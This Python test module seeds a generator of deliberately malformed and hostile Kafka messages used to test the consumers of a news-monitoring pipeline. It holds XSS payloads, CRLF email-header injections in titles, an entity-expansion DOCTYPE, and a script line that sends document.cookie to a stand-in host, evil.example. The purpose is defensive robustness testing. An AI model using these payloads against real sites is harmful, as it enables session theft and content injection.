"""A seeded generator of hostile input for the consumers: raw Kafka values for `newsmon.raw-pages`
(and a few for `newsmon.articles`), built from the fixture site's real article pages.

`raw_page_values(seed)` gives at least 1,000 `Hostile(kind, key, value)`: the same seed always gives
the same bytes. The kinds are those issue 8 lists: truncated and deeply nested HTML, big bodies,
binary bodies typed text/html, wrong/missing/lying charsets, invalid JSON, wrong shapes, 100,000-
character lines, zero-width and control characters, Traditional/Simplified mixtures, titles with
CR/LF and HTML, script injection, plus untouched pages as the control group. The key of a message
that has a canonical URL is its RawPage key, so the stories it becomes (page_key) and its dead
letter (key) can be matched to it.

A 50 MB page cannot travel through Kafka (message.max.bytes is 16 MiB here; ~1 MB by default), so
`fifty_megabyte_article()` gives it as the crawler sees it: raw bytes to pass through the crawler's
own RawPagePipeline, which cuts it to NEWSMON_CRAWL_MAX_PAGE_BYTES before anything is produced.
"""

from __future__ import annotations

import hashlib
import json
import random
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from newsmon.schemas import url_key

FIXTURE_WWW = Path(__file__).resolve().parent.parent / "fixtures" / "site" / "www"
FIXTURE_PAGES = Path(__file__).resolve().parent.parent / "fixtures" / "pages"

ZERO_WIDTH = "\u200b\u200c\u200d\u2060\ufeff\u00ad\u180e\u202e\u202d\u2066\u2069"
CONTROLS = "".join(chr(c) for c in (*range(0, 9), 11, 12, *range(14, 32), 0x7F, 0x85, *range(0x80, 0x9F, 5)))
TRADITIONAL = "為基層減負，清理規範微信工作群、政務應用程式，精簡會議與發文，督查檢查考核大幅壓減。"
SIMPLIFIED = "为基层减负，清理规范微信工作群、政务应用程序，精简会议与发文，督查检查考核大幅压减。"
OTHER_SCRIPTS = "日本語のテキスト、한국어 텍스트، نص عربي, Ελληνικά, кириллица, 🙂🚀👍🏽, ｆｕｌｌｗｉｄｔｈ １２３％"


@dataclass(frozen=True, slots=True)
class Hostile:
    kind: str
    key: str
    value: bytes

    @property
    def size(self) -> int:
        return len(self.value)


def base_pages() -> list[str]:
    """The real article pages of the fixture site (and the single-page fixtures), as text."""
    paths = sorted((FIXTURE_WWW / "content").rglob("*.html")) + sorted(FIXTURE_PAGES.glob("*.html"))
    pages = []
    for p in paths:
        data = p.read_bytes()
        try:
            pages.append(data.decode("utf-8"))
        except UnicodeDecodeError:
            pages.append(data.decode("gb18030", errors="replace"))
    return pages


def raw_page(url: str, body, **over) -> dict:
    """A raw-page message as a dict (so tests can break any field)."""
    doc = {"url": url, "final_url": url, "canonical_url": url, "source_id": "hostile",
           "fetched_at": "2025-03-12T08:00:00+00:00", "status": 200,
           "content_type": "text/html; charset=utf-8", "declared_encoding": "utf-8",
           "detected_encoding": "utf-8", "body": body,
           "sha256": hashlib.sha256(str(body).encode("utf-8", "surrogatepass")).hexdigest(),
           "truncated": False, "outlet": "滨江日报"}
    doc.update(over)
    return doc


def encode(doc) -> bytes:
    """JSON as the crawler writes it; lone surrogates (legal in JSON, not in UTF-8) escaped."""
    try:
        return json.dumps(doc, ensure_ascii=False).encode("utf-8")
    except UnicodeEncodeError:
        return json.dumps(doc, ensure_ascii=True).encode("ascii")


class _Gen:
    def __init__(self, seed: int):
        self.rng = random.Random(seed)
        self.pages = base_pages()
        self.out: list[Hostile] = []

    # ---------------------------------------------------------------- helpers
    def page(self) -> str:
        return self.rng.choice(self.pages)

    def url(self, kind: str) -> str:
        return f"http://hostile.example.cn/{kind}/{len(self.out):05d}.html"

    def add_page(self, kind: str, body, **over) -> None:
        url = over.pop("url", None) or self.url(kind)
        doc = raw_page(url, body, **over)
        key = url_key(doc["canonical_url"]) if isinstance(doc.get("canonical_url"), str) else f"{kind}-{len(self.out)}"
        self.out.append(Hostile(kind, key, encode(doc)))

    def add_raw(self, kind: str, value: bytes) -> None:
        self.out.append(Hostile(kind, f"{kind}-{len(self.out):05d}", value))

    def sprinkle(self, text: str, alphabet: str, share: float) -> str:
        return "".join(c + (self.rng.choice(alphabet) if self.rng.random() < share else "") for c in text)

    def article(self, title: str, paragraphs: list[str]) -> str:
        ps = "".join(f"<p>{p}</p>" for p in paragraphs)
        return (f"<html><head><meta charset='utf-8'><title>{title}</title></head><body>"
                f"<div class='article'><h1>{title}</h1><div class='content'>{ps}</div></div></body></html>")

    # ---------------------------------------------------------------- kinds
    def control(self) -> None:
        self.add_page("control", self.page())

    def truncated_html(self) -> None:
        page = self.page()
        cut = self.rng.choice([
            self.rng.randrange(1, len(page)),                             # anywhere
            max(1, page.find("<p>") + self.rng.randrange(0, 40)),          # inside the first paragraph
            max(1, page.rfind("<") + 1),                                  # inside the last tag
            max(1, page.find("&") + 2),                                   # inside an entity
        ])
        self.add_page("truncated_html", page[:cut], truncated=True)

    def nested_html(self) -> None:
        depth = self.rng.choice([300, 3_000, 12_000]) if self.rng.random() < 0.9 else 60_000
        tag = self.rng.choice(["div", "span", "table", "ul", "b", "font", "p"])
        closed = self.rng.random() < 0.5
        text = "<p>" + SIMPLIFIED * 3 + "</p>"
        body = f"<html><body>{f'<{tag}>' * depth}{text}{f'</{tag}>' * depth if closed else ''}</body></html>"
        self.add_page("nested_html", body)

    def binary_body(self) -> None:
        n = self.rng.choice([64, 4096, 200_000])
        data = self.rng.randbytes(n)
        style = self.rng.randrange(4)
        if style == 0:
            body = data.decode("latin-1")                    # bytes read as Latin-1: every code point < 256
        elif style == 1:
            body = data.decode("utf-8", errors="replace")    # replacement characters everywhere
        elif style == 2:
            body = "\x89PNG\r\n\x1a\n" + data.decode("latin-1")
        else:
            body = "<html><body>" + "\x00" * n + "</body></html>"
        self.add_page("binary_body", body, content_type=self.rng.choice(["text/html", "text/html; charset=utf-8"]))

    def lying_charset(self) -> None:
        page = self.page()
        style = self.rng.randrange(5)
        if style == 0:   # GBK bytes decoded as Latin-1 (what a crawler that trusted a wrong header would send)
            body = page.encode("gb18030", errors="replace").decode("latin-1")
            over = {"declared_encoding": "iso-8859-1", "content_type": "text/html; charset=iso-8859-1"}
        elif style == 1:  # UTF-8 bytes decoded as GBK
            body = page.encode("utf-8").decode("gbk", errors="replace")
            over = {"declared_encoding": "gbk", "detected_encoding": "gbk"}
        elif style == 2:  # Big5 bytes decoded as UTF-8 with replacement
            body = page.encode("big5", errors="replace").decode("utf-8", errors="replace")
            over = {"declared_encoding": "big5"}
        elif style == 3:  # nonsense declarations
            body = page.replace("charset=utf-8", "charset=klingon").replace('charset="utf-8"', 'charset="x-mac-ufo"')
            over = {"content_type": "text/html; charset=klingon", "declared_encoding": "klingon",
                    "detected_encoding": None}
        else:            # declared UTF-16, no declaration at all
            body = page
            over = {"content_type": "text/html; charset=utf-16", "declared_encoding": None, "detected_encoding": None}
        self.add_page("lying_charset", body, **over)

    def invalid_json(self) -> None:
        url = self.url("invalid_json")
        good = encode(raw_page(url, self.page()))
        choices: list[Callable[[], bytes]] = [
            lambda: good[: self.rng.randrange(1, len(good))],           # truncated JSON
            lambda: b"",                                                # empty value (a tombstone)
            lambda: b"null", lambda: b"[]", lambda: b"42", lambda: b'"a string"', lambda: b"true",
            lambda: b"\xff\xfe\x00{\x00}" + self.rng.randbytes(50),      # not UTF-8
            lambda: good.replace(b'"status": 200', b'"status": NaN'),  # Python's json reads NaN: a wrong shape
            lambda: b"[" * 100_000 + b"]" * 100_000,                     # nesting beyond the parser's recursion limit
            lambda: b'{"url": "' + b"\\ud800" * 10 + b'"',              # unterminated, lone surrogates
            lambda: good.replace(b"{", b"{,", 1),
            lambda: good + b"garbage after the object",
            lambda: self.rng.randbytes(self.rng.choice([1, 100, 10_000])),
            lambda: ("{" + "，".join(f'"{i}":{i}' for i in range(50)) + "}").encode("utf-8"),  # full-width commas
        ]
        # keyed like a page: the one that is JSON after all (NaN) is dead-lettered under this key
        self.out.append(Hostile("invalid_json", url_key(url), self.rng.choice(choices)()))

    def json_bom(self) -> None:
        """A UTF-8 byte-order mark before the JSON: RFC 8259 lets a parser ignore it, and ours does."""
        url = self.url("json_bom")
        self.out.append(Hostile("json_bom", url_key(url), b"\xef\xbb\xbf" + encode(raw_page(url, self.page()))))

    def wrong_shape(self) -> None:
        page = self.page()
        url = self.url("wrong_shape")
        choices: list[Callable[[], dict | list | str]] = [
            lambda: {"hello": "world"},
            lambda: {k: v for k, v in raw_page(url, page).items() if k != "body"},
            lambda: {k: v for k, v in raw_page(url, page).items() if k != "canonical_url"},
            lambda: raw_page(url, 12345),
            lambda: raw_page(url, None),
            lambda: raw_page(url, ["<p>a</p>"]),
            lambda: raw_page(url, {"html": page}),
            lambda: raw_page(url, page, fetched_at="yesterday"),
            lambda: raw_page(url, page, status="two hundred"),
            lambda: {**raw_page(url, page), "url": None},
            lambda: raw_page(url, page, home_region="辽宁省"),
            lambda: raw_page(url, page, home_region={"province": 7, "lat": "north"}),
            lambda: raw_page(url, page, extraction_hints={"body_xpath": "//div["}),
            lambda: raw_page(url, page, extraction_hints={"body_xpath": "count(//*)", "title_xpath": "//title/text()"}),
            lambda: raw_page(url, page, extraction_hints={"body_xpath": "//*[" + "not(" * 300 + "1" + ")" * 300 + "]"}),
            lambda: raw_page(url, page, extraction_hints=["//div"]),
            lambda: raw_page(url, page, content_type="image/png"),
            lambda: raw_page(url, page, content_type="application/pdf"),
            lambda: raw_page(url, page, content_type=""),
            lambda: raw_page(url, page, content_type=None),
            lambda: raw_page(url, page, status=500),
            lambda: raw_page(url, page, truncated="yes please"),
            lambda: raw_page(url, page, extra_field={"nested": [1, 2, 3]}),
            lambda: raw_page(url, page, outlet="<script>alert(1)</script>\r\nBcc: x@example.org"),
            lambda: raw_page(url, page, canonical_url="javascript:alert(1)//" + url),
            lambda: raw_page(url, page, canonical_url=url + "?" + "q=1&" * 20_000),
            lambda: [raw_page(url, page)],
        ]
        doc = self.rng.choice(choices)()
        if isinstance(doc, dict) and isinstance(doc.get("canonical_url"), str):
            self.out.append(Hostile("wrong_shape", url_key(doc["canonical_url"]), encode(doc)))
        else:
            self.add_raw("wrong_shape", encode(doc))

    def long_lines(self) -> None:
        n = 100_000
        style = self.rng.randrange(5)
        line = {
            0: (SIMPLIFIED * (n // len(SIMPLIFIED) + 1))[:n],                # one paragraph, no break
            1: "".join(self.rng.choice("为基层减负微信工作群") for _ in range(n)),  # no punctuation at all
            2: ("1234567890" * (n // 10))[:n],                               # one 100,000-digit number
            3: ("a" * n),                                                    # one ASCII "word"
            4: ("清理工作群" + "、" * 10 + "个") * (n // 16),                    # punctuation runs
        }[style]
        if self.rng.random() < 0.5:
            self.add_page("long_lines", self.article("超长的一行", [line]))
        else:
            self.add_page("long_lines", f"<html><body>{line}</body></html>")

    def control_chars(self) -> None:
        page = self.page()
        style = self.rng.randrange(4)
        if style == 0:
            body = self.sprinkle(page, ZERO_WIDTH, 0.3)
        elif style == 1:
            body = self.sprinkle(page, CONTROLS, 0.02)
        elif style == 2:   # every character split by a zero-width space: the words are still there
            body = "\u200b".join(page)
        else:              # lone surrogates and noncharacters inside the text
            body = page.replace("减负", "减\ud800负").replace("工作群", "工\udfff作\ufffe群\uffff")
        self.add_page("control_chars", body)

    def script_mix(self) -> None:
        style = self.rng.randrange(4)
        if style == 0:   # alternating characters of the Traditional and Simplified sentence
            text = "".join(t if i % 2 else s for i, (t, s) in enumerate(zip(TRADITIONAL, SIMPLIFIED, strict=True)))
            paras = [text * 3, SIMPLIFIED, TRADITIONAL]
        elif style == 1:
            paras = [TRADITIONAL * 2, OTHER_SCRIPTS, SIMPLIFIED * 2]
        elif style == 2:
            paras = [self.sprinkle(SIMPLIFIED, OTHER_SCRIPTS, 0.3) for _ in range(4)]
        else:
            paras = [TRADITIONAL + "，" + OTHER_SCRIPTS + "。" + SIMPLIFIED for _ in range(3)]
        self.add_page("script_mix", self.article(self.rng.choice([TRADITIONAL[:12], SIMPLIFIED[:12]]), paras))

    def hostile_title(self) -> None:
        titles = [
            "铁岭清理工作群\r\nBcc: victim@example.org\r\nX-Injected: yes",
            "<script>alert(1)</script>为基层减负",
            '"><img src=x onerror=alert(1)>减负',
            "减负\n\n\n\n标题\r\r\r换行",
            "&lt;b&gt;转义&lt;/b&gt; &amp;amp; &#0; &#x110000; &#xD800;",
            "标题" * 5_000,
            "\u202e负减层基为\u202c",
            "",
        ]
        title = self.rng.choice(titles)
        paras = [SIMPLIFIED * 2, "铁岭市共清理微信工作群746个，精简率达到64.3%。"]
        style = self.rng.randrange(3)
        if style == 0:
            body = self.article(title, paras)
        elif style == 1:  # the raw title outside any escaping, as a broken CMS would print it
            body = f"<html><head><title>{title}</title></head><body><h1>{title}</h1><p>{paras[0]}</p></body></html>"
        else:
            body = self.page().replace("<title>", "<title>" + title, 1).replace("<h1>", "<h1>" + title, 1)
        self.add_page("hostile_title", body)

    def html_injection(self) -> None:
        bad = self.rng.choice([
            "<script>document.location='http://evil.example/'+document.cookie</script>",
            "<iframe src='javascript:alert(1)'></iframe>", "<svg onload=alert(1)>", "<a href='javascript:alert(1)'>点击</a>",
            "<img src=x onerror=alert(1)>", "<style>body{background:url(javascript:alert(1))}</style>",
            "<!--", "<![CDATA[", "<?xml version='1.0'?>", "<!DOCTYPE x [<!ENTITY a '" + "a" * 1000 + "'>]>",
        ])
        page = self.page()
        at = page.find("<p>")
        body = page[:at] + bad + page[at:] if at >= 0 else bad + page
        self.add_page("html_injection", body)

    def empty_body(self) -> None:
        body = self.rng.choice(["", " ", "\n\n\t", "<html></html>", "<html><body></body></html>", "<p></p>" * 100,
                                "\u3000" * 50, "<!-- only a comment -->"])
        self.add_page("empty_body", body)

    def big_body(self) -> None:
        """Bodies of 2-8 MB: over what the processor analyses, under the broker's 16 MiB."""
        mb = self.rng.choice([2, 4, 8])
        filler = self.rng.choice(["<div class='x'><span>广告</span></div>", "<p>" + SIMPLIFIED + "</p>",
                                  "<script>var a=1;</script>"])
        page = self.page()
        at = page.find("</body>")
        body = page[:at] + filler * (mb * 1_000_000 // len(filler.encode("utf-8"))) + page[at:]
        self.add_page("big_body", body, truncated=True)


    def big_binary(self) -> None:
        """2.5 MB of NUL characters: 15 MB of JSON escapes, just under the broker's limit, so that the
        dead letter (which escapes it once more) would not fit unless it is cut."""
        self.add_page("big_binary", "\x00" * 2_500_000)


# Kind -> how many messages of it. Slow kinds (100,000-character lines, multi-megabyte bodies)
# are few so that the whole run stays within a few minutes on two shared cores.
PLAN: dict[str, int] = {
    "control": 120,
    "truncated_html": 100,
    "nested_html": 30,
    "binary_body": 70,
    "lying_charset": 90,
    "invalid_json": 105,
    "json_bom": 5,
    "wrong_shape": 110,
    "long_lines": 10,
    "control_chars": 100,
    "script_mix": 80,
    "hostile_title": 90,
    "html_injection": 80,
    "empty_body": 25,
    "big_body": 2,
    "big_binary": 1,
}


def raw_page_values(seed: int = 8) -> list[Hostile]:
    """The hostile raw-page messages, in a seeded shuffled order (same seed, same bytes)."""
    gen = _Gen(seed)
    for kind, count in PLAN.items():
        for _ in range(count):
            getattr(gen, kind)()
    gen.rng.shuffle(gen.out)
    return gen.out


def fifty_megabyte_article() -> bytes:
    """A real article followed by 50 MB of page furniture, as bytes off the wire."""
    page = base_pages()[0].encode("utf-8")
    at = page.find(b"</body>")
    filler = "<div class='ad'><a href='/ad'>广告 推广</a></div>\n".encode()
    return page[:at] + filler * (50 * 1024 * 1024 // len(filler) + 1) + page[at:]


def story_values(seed: int = 8) -> list[Hostile]:
    """Hostile messages for the indexer (`newsmon.articles`): not JSON, not a story, and stories
    whose fields Elasticsearch must refuse or store safely."""
    rng = random.Random(seed)

    def story(i: int, **over) -> dict:
        doc = {"id": f"hostile-story-{i:04d}", "title": "铁岭清理微信工作群", "text": SIMPLIFIED * 3, "relevant": True,
               "score": 0.9, "measures": ["work_groups"], "url": f"http://hostile.example.cn/s/{i}.html"}
        doc.update(over)
        return doc

    cases: list[tuple[str, object]] = [
        ("invalid_json", b"{not json"), ("invalid_json", b""), ("invalid_json", b"\xff\xfe"),
        ("invalid_json", b"[" * 50_000), ("wrong_shape", {"hello": "world"}), ("wrong_shape", [1, 2, 3]),
        ("wrong_shape", story(0, title=None)), ("wrong_shape", story(1, measures="work_groups")),
        ("wrong_shape", story(2, figures=[{"what": "群", "value": "many"}])),
        ("wrong_shape", story(3, published_at="the day after tomorrow")),
        ("hostile_story", story(4, title="<script>alert(1)</script>\r\nBcc: x@example.org")),
        ("hostile_story", story(5, url="http://hostile.example.cn/" + "a" * 40_000)),
        ("hostile_story", story(6, regions=[{"province": "辽宁省", "lat": 1000.0, "lon": -999.0}])),
        ("hostile_story", story(7, text="\u200b".join(SIMPLIFIED * 20))),
        ("hostile_story", story(8, text=TRADITIONAL * 5000)),
        ("hostile_story", story(9, title="减\ud800负")),
        ("hostile_story", story(10, keywords=["k" * 40_000])),
        ("hostile_story", story(11, figures=[{"what": "群", "value": 1e308, "unit": "个", "text": "群"}])),
        ("hostile_story", story(12, cluster_id="c" * 40_000)),
        ("hostile_story", story(13, measures=["not_a_measure"])),
    ]
    cases += [("control_story", story(100 + i, title=f"正常报道 {i}")) for i in range(rng.randrange(10, 20))]
    out = []
    for n, (kind, value) in enumerate(cases):
        key = value.get("id") if isinstance(value, dict) and isinstance(value.get("id"), str) else f"{kind}-{n}"
        out.append(Hostile(kind, key, value if isinstance(value, bytes) else encode(value)))
    return out
